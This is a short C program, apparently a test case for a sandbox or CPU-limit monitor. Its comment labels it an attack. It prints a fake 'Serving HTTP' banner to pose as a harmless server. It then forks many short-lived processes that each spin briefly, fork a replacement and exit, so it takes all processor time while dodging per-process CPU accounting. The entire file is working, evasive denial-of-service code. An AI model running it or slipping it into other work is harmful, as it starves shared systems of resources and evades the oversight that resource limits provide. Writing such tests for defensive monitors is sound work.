/*
 * Attack: takes all the processors' time with many processes, none of which is busy for long by
 * itself.
 */
#define _POSIX_C_SOURCE 200809L
#include <stdio.h>
#include <time.h>
#include <unistd.h>

int main(void) {
    time_t last = time(NULL) + 300;
    puts("Serving HTTP on port 8888 ...");
    fflush(stdout);
    for (int i = 0; i < 20; i++) {
        if (fork() == 0) {
            while (time(NULL) < last) {
                clock_t end = clock() + CLOCKS_PER_SEC / 10;
                while (clock() < end) continue;
                if (fork() != 0) _exit(0);
            }
            _exit(0);
        }
    }
    for (;;) pause();
}
